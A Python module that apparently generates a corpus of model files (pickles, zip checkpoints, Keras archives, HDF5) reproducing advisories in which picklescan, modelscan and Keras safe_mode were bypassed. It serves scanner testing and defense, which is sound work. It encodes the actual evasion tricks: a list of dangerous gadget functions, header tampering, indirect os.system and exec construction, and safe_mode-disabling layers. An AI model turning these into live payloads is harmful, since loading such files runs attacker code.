"""Files as in the public advisories about picklescan, modelscan and Keras' safe_mode, made anew by text: harmless, and never loaded.

Each was once passed by the tool that its advisory is about. What they would call gets the argument "x".
"""

import io
import json
import zipfile
from typing import NamedTuple

PICKLESCAN, MODELSCAN, KERAS = "picklescan", "modelscan", "Keras"


class Bypass(NamedTuple):
    """A file: the `id` of its advisory, the tool that it passed, what it does in a few words, and its suffix and bytes."""

    id: str
    of: str
    what: str
    suffix: str
    data: bytes

    @property
    def shown(self):
        """Return `what` as the table shows it: the name of a function as code."""
        return self.what if " " in self.what else f"`{self.what}`"

    @property
    def file(self):
        return "".join(letter if letter.isalnum() else "-" for letter in f"{self.id} {self.what}")[:80] + self.suffix


GADGETS = """
    CVE-2025-1716       pip                                             main
    CVE-2025-10157      asyncio.unix_events                             _UnixSubprocessTransport._start
    CVE-2025-46417      ssl                                             get_server_certificate
    CVE-2025-71320      pydoc                                           locate
    CVE-2025-71321      distutils.file_util                             write_file
    CVE-2025-71322      pty                                             spawn
    CVE-2025-71339      numpy.f2py.crackfortran                         _eval_length
    CVE-2026-56304      logging                                         FileHandler
    CVE-2026-56315      _aix_support                                    _read_cmd_output
    CVE-2026-56315      _osx_support                                    _read_output
    CVE-2026-56315      _pyrepl.pager                                   pipe_pager
    CVE-2026-56315      imaplib                                         IMAP4_stream
    CVE-2026-56315      test.support.script_helper                      assert_python_ok
    CVE-2026-56315      uuid                                            _get_command_stdout
    GHSA-3gf5-cxq9-w223 idlelib.pyshell                                 ModifiedInterpreter.runcode
    GHSA-3vg9-h568-4w9m idlelib.debugobj                                ObjectTreeItem.SetText
    GHSA-4675-36f9-wf6r ctypes                                          CDLL
    GHSA-46h3-79wf-xr6c _operator                                       attrgetter
    GHSA-49gj-c84q-6qm9 cProfile                                        run
    GHSA-4r9r-ch6f-vxmx torch.utils.bottleneck.__main__                 run_cprofile
    GHSA-4whj-rm5r-c2v8 torch.utils.bottleneck.__main__                 run_autograd_prof
    GHSA-5qwp-399c-mjwf trace                                           Trace.run
    GHSA-6vqj-c2q5-j97w profile                                         Profile.runctx
    GHSA-6w4w-5w54-rjvr idlelib.autocomplete                            AutoComplete.get_entity
    GHSA-7cq8-mj8x-j263 idlelib.autocomplete                            AutoComplete.fetch_completions
    GHSA-7wx9-6375-f5wh profile                                         run
    GHSA-86cj-95qr-2p4f torch._dynamo.guards                            GuardBuilder.get
    GHSA-8r4j-24qv-fmq9 idlelib.calltip                                 Calltip.fetch_tip
    GHSA-955r-x9j8-7rhh _operator                                       methodcaller
    GHSA-9726-w42j-3qjr _io                                             FileIO
    GHSA-9726-w42j-3qjr urllib.request                                  urlopen
    GHSA-9m3x-qqw2-h32h cloudpickle.cloudpickle                         _make_function
    GHSA-9m3x-qqw2-h32h types                                           CodeType
    GHSA-9w88-8rmg-7g2p cProfile                                        runctx
    GHSA-9xph-j2h6-g47v idlelib.calltip                                 get_entity
    GHSA-cj3c-v495-4xqh code                                            InteractiveInterpreter.runcode
    GHSA-f4x7-rfwp-v3xw torch.fx.experimental.symbolic_shapes           ShapeEnv.evaluate_guards_expression
    GHSA-f54q-57x4-jg88 lib2to3.pgen2.grammar                           Grammar.loads
    GHSA-f745-w6jp-hpxx torch.utils.collect_env                         run
    GHSA-fqq6-7vqf-w3fg doctest                                         debug_script
    GHSA-g344-hcph-8vgg trace                                           Trace.runctx
    GHSA-h3qp-7fh3-f8h4 torch.utils.data.datapipes.utils.decoder        basichandlers
    GHSA-j343-8v2j-ff7w idlelib.pyshell                                 ModifiedInterpreter.runcommand
    GHSA-jhph-76pp-mggw torch.utils.collect_env                         run_and_read_all
    GHSA-m869-42cg-3xwr idlelib.run                                     Executive.runcode
    GHSA-p9w7-82w4-7q8m lib2to3.pgen2.pgen                              ParserGenerator.make_label
    GHSA-r8g5-cgf2-4m4m numpy.f2py.crackfortran                         getlincoef
    GHSA-v7x6-rv5q-mhwc timeit                                          timeit
    GHSA-vr7h-p6mm-wpmh torch.jit.unsupported_tensor_ops                execWrapper
    GHSA-vv6j-3g6g-2pvj torch.utils._config_module                      ConfigModule.load_config
    GHSA-vvpj-8cmc-gx39 pkgutil                                         resolve_name
    GHSA-x696-vm39-cp64 profile                                         Profile.run
    GHSA-xp4f-hrf8-rxw7 ensurepip                                       _run_pip
"""
"""The advisories about names that picklescan did not know."""


def _text(word):
    return b"\x8c" + bytes([len(word)]) + word.encode()


def _name(module, word):
    return _text(module) + _text(word) + b"\x93"


def _call(module, word, argument="x"):
    return _name(module, word) + _text(argument) + b"\x85R"


def _pickle(body):
    return b"\x80\x04" + body + b"."


PAYLOAD = _pickle(_call("os", "system"))


def _archive(**members):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return packed.getvalue()


def _checkpoint(**more):
    return _archive(archive__data_dot_pkl=PAYLOAD, archive__version=b"3\n", **more)


def _patched(data, mark, offset, new):
    """Overwrite bytes of the header of an archive that begins with a mark: "PK\\1\\2" of the directory, "PK\\3\\4" of a member."""
    at = data.index(mark) + offset
    return data[:at] + new + data[at + len(new) :]


def _picklescan():
    for line in GADGETS.split("\n")[1:-1]:
        advisory, module, word = line.split()
        yield advisory, f"{module}.{word}", ".pkl", _pickle(_call(module, word))
    member = b"PK\3\4"
    directory = b"PK\1\2"
    other = _archive(archive__data_dot_pkl=_pickle(b"}"), archive__config_dot_p=PAYLOAD, archive__version=b"3\n")
    yield "CVE-2025-1889", "a pickle of another suffix in an archive", ".pt", other
    yield "CVE-2025-1944", "two names of a member", ".pt", _patched(_checkpoint(), member, 30 + 8, b"DATA.pkl")
    yield "CVE-2025-1945", "a member marked as encrypted", ".pt", _patched(_checkpoint(), directory, 8, b"\1\0")
    yield "CVE-2025-10155", "a pickle with the suffix of a checkpoint", ".bin", PAYLOAD
    yield "CVE-2025-10156", "a wrong checksum", ".pt", _patched(_checkpoint(), directory, 16, b"\1\2\3\4")
    yield "CVE-2025-71325", "a name at the first opcode", ".pkl", b"S'os'\nS'system'\n\x93S'x'\n\x85R."
    magic = _pickle(_call("builtins", "eval", "0x1950a86a20f9469cfc6c"))
    yield "CVE-2026-53875", "a computed magic number", ".pt", magic + _pickle(b"M\xe9\x03") + PAYLOAD
    chain = _name("_operator", "attrgetter") + _text("system") + b"\x85R" + _call("builtins", "__import__", "os") + b"\x85R"
    yield "GHSA-46h3-79wf-xr6c", "a chain of calls", ".pkl", _pickle(chain + _text("x") + b"\x85R")


def _modelscan():
    state = b"N}" + _text("a") + _text("os") + b"s" + _text("b") + _text("system") + b"s\x86b0"
    names = _name("numpy", "prod.a") + b"q\0" + _name("numpy", "prod.b") + b"q\1h\0h\1\x93"
    yield "modelscan#85", "names out of attributes", _pickle(_name("numpy", "prod") + state + names + _text("x") + b"\x85R")
    builtins = _name("builtins", "dict.get") + _name("numpy", "__builtins__") + _text("exec") + b"\x86R"
    yield "modelscan#89", "builtins of another module", _pickle(builtins + _text("x") + b"\x85R")
    modules = _name("numpy", "prod") + b"N" + _name("numpy", "core._internal.sys.modules") + b"\x86b0"
    yield "modelscan#89", "modules as a state", _pickle(modules + _call("numpy", "prod.os.system"))
    nested = _name("pickle", "loads") + b"C" + bytes([len(PAYLOAD)]) + PAYLOAD + b"\x85R"
    yield "modelscan#267", "a pickle that loads a pickle", _pickle(nested)
    size = _name("numpy", "size") + b"}}" + _text("shape") + _name("numpy", "__builtins__") + b"s\x86b"
    yield "modelscan#330", "a state of a function", _pickle(size + _text("eval") + b"\x85R")
    found = _name("builtins", "getattr") + _call("importlib", "import_module", "os") + _text("system") + b"\x86R"
    yield "modelscan#331", "a module by its name", _pickle(found + _text("x") + b"\x85R")
    for what, operands in {
        "bytes as a name": b"C\2os" + _text("system"),
        "a number as a name": b"K\x2a" + _text("os"),
        "a changeable name": _text("os") + b"\x96\6" + bytes(7) + b"system",
    }.items():
        yield "modelscan#338", what, _pickle(_call("os", "system") + operands + b"\x93")
    unpacked = _name("zlib", "decompress") + b"C\4x\x9c\3\0\x85R"
    yield "modelscan#338", "a packed program", _pickle(_name("builtins", "exec") + unpacked + b"\x85R")
    yield "modelscan#346", "mailcap.findmatch", _pickle(_call("mailcap", "findmatch"))


def _function(module, word):
    return {"module": module, "class_name": "function", "config": word, "registered_name": "function"}


def _layer(kind, **config):
    return {"module": "keras.layers", "class_name": kind, "config": {"name": "a", **config}, "registered_name": None}


def _lambda(function, **more):
    return _layer("Lambda", function=function, **more)


CODE = {"class_name": "__lambda__", "config": {"code": "4wAAAAA=", "defaults": None, "closure": None}}


def _model(*layers):
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "net", "layers": list(layers)},
        "registered_name": None,
    }


def _keras_archive(*layers, **more):
    config = json.dumps(_model(*layers)).encode()
    return _archive(metadata_dot_json=b'{"keras_version": "3.9.0"}', config_dot_json=config, **more)


def _keras_configs():
    yield "CVE-2024-3660", "code of a Lambda layer", _keras_archive(_lambda(CODE))
    other = {"module": "os", "class_name": "system", "config": {"command": "x"}, "registered_name": "system"}
    yield "CVE-2025-1550", "a function of any module", _keras_archive(other)
    yield "CVE-2025-8747", "a function that fetches a file", _keras_archive(_lambda(_function("keras.utils", "get_file")))
    unsafe = _function("keras.config", "enable_unsafe_deserialization")
    yield "CVE-2025-9906", "a function that turns safe_mode off", _keras_archive(_lambda(unsafe))
    attribute = _function("keras.src.backend.common.global_state", "set_global_attribute")
    yield "CVE-2025-9906", "a function that sets safe_mode", _keras_archive(_lambda(attribute, arguments={"value": False}))
    load = _function("keras.models", "load_model")
    yield "CVE-2025-9906", "a function that loads a model", _keras_archive(_lambda(load, arguments={"safe_mode": False}))
    yield "CVE-2025-12058", "a vocabulary in another file", _keras_archive(_layer("StringLookup", vocabulary="/etc/x"))
    yield "CVE-2025-49655", "a module of PyTorch", _keras_archive(_layer("TorchModuleWrapper", module="gASVAAAA"))
    yield "CVE-2026-1462", "a SavedModel elsewhere", _keras_archive(_layer("TFSMLayer", filepath="/tmp/x"))
    named = {**_layer("Dense", units=1), "config": {"name": "../../x", "units": 1}}
    yield "CVE-2026-12479", "a layer with a path as its name", _keras_archive(named)


def _keras_hdf5():
    """Yield files of HDF5, which h5py writes."""
    yield "CVE-2025-9905", "code of a Lambda layer in HDF5", ".h5", _hdf5(_with_config)
    yield "CVE-2026-1669", "a dataset in another file", ".weights.h5", _hdf5(_with_external)
    yield "CVE-2026-9335", "a link to another file", ".weights.h5", _hdf5(_with_link)
    yield "CVE-2026-12480", "a virtual dataset", ".weights.h5", _hdf5(_with_virtual)


def _hdf5(fill):
    import h5py

    packed = io.BytesIO()
    with h5py.File(packed, "w") as file:
        fill(file)
    return packed.getvalue()


def _with_config(file):
    file.attrs["keras_version"] = "2.13.1"
    file.attrs["model_config"] = json.dumps(_model({"class_name": "Lambda", "config": {"name": "a", "function": ["4wAAAAA=", None, None], "function_type": "lambda"}}))  # fmt: skip
    file.create_group("model_weights")


def _with_external(file):
    file.create_dataset("layers/dense/vars/0", (4,), "u1", external=[("/no/such/file", 0, 4)])


def _with_link(file):
    import h5py

    file["layers/dense/vars/0"] = h5py.ExternalLink("/no/such/file.h5", "/x")


def _with_virtual(file):
    import h5py

    layout = h5py.VirtualLayout((4,), "u1")
    layout[:] = h5py.VirtualSource("/no/such/file.h5", "x", (4,))
    file.create_virtual_dataset("layers/dense/vars/0", layout)


def bypasses():
    """Return all files, by the tool and the advisory."""
    found = [Bypass(advisory, PICKLESCAN, *rest) for advisory, *rest in _picklescan()]
    found += [Bypass(issue, MODELSCAN, what, ".pkl", data) for issue, what, data in _modelscan()]
    found += [Bypass(advisory, KERAS, what, ".keras", data) for advisory, what, data in _keras_configs()]
    found += [Bypass(advisory, KERAS, *rest) for advisory, *rest in _keras_hdf5()]
    return found
